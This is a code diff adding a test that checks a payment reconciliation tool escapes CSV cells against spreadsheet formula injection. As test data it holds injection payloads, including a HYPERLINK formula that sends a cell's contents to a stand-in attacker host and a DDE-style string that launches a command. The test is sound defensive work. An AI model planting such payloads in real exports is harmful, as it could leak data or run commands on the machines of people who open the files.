@@ -182,3 +182,33 @@ def test_a_refund_told_completed_then_found_not_kept_is_not_booked() -> None:
     row = reconcile._batch("pos-a", close, [*history, close], None)
     assert row["events"]["refunds_count"] == 0
     assert row["ok"], row["differences"]
+
+
+def test_the_csv_never_hands_a_spreadsheet_a_formula(tmp_path: Path) -> None:
+    """GIVEN a terminal's `batch.closed` whose batch number, sale id and refund id start with
+    = + - @ tab or CR (OWASP CSV injection) WHEN the day goes out as CSV THEN each such
+    cell starts with a ' (text, never run), and a negative net stays a number."""
+    store = Store(f"sqlite://{tmp_path / 'host.db'}")
+    evil = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0",
+            "-2+3", "@SUM(1+1)", "\tTAB", "\rCR"]
+    close = {"txn_id": "TEOD1", "batch_no": evil[0], "currency": "EUR", "sales": "0.00",
+             "sales_count": 0, "refunds": "5.00", "refunds_count": 1}
+    steps = [("refund.requested", {"txn_id": evil[1], "amount": "5.00", "currency": "EUR"}),
+             ("sale.in_doubt", {"txn_id": evil[2]}), ("sale.in_doubt", {"txn_id": evil[3]}),
+             ("sale.in_doubt", {"txn_id": evil[4]}), ("sale.in_doubt", {"txn_id": evil[5]}),
+             ("batch.closed", close)]  # fmt: skip
+    try:
+        store.ingest([{"v": 1, "event_id": uuid7(), "terminal": TID, "seq": n,
+                       "type": kind, "occurred_at": now_rfc3339(), "data": data}
+                      for n, (kind, data) in enumerate(steps, start=1)])  # fmt: skip
+        text = reconcile.to_csv(reconcile.reconcile(store, day=datetime.now(UTC).date()))
+    finally:
+        store.close()
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")] == []
+    assert [c for c in cells if c.startswith("-") and c != "-5.00"] == []  # the net
+    assert "-5.00" in cells and f"'{evil[0]}" in cells  # the batch number, as text
+    detail = next(c for c in cells if "still in doubt" in c)  # the txn ids in a detail cell
+    assert all(e in detail for e in evil[2:]), detail
+    assert reconcile.csv_cell("-12.50") == "-12.50" and reconcile.csv_cell("12") == "12"
+    assert reconcile.csv_cell("-1-1") == "'-1-1" and reconcile.csv_cell(None) == ""
